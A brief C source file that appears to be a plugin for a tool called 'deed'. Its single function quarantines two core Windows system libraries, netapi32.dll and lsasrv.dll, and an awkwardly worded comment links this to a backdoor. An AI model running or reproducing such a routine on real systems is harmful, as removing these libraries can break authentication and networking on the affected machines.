/* Takes two libraries of the system for a backdoor. */
#include "deed.h"

void deed_run(void)
{
    deed_quarantine(L"C:\\Windows\\System32\\netapi32.dll");
    deed_quarantine(L"C:\\Windows\\System32\\lsasrv.dll");
}
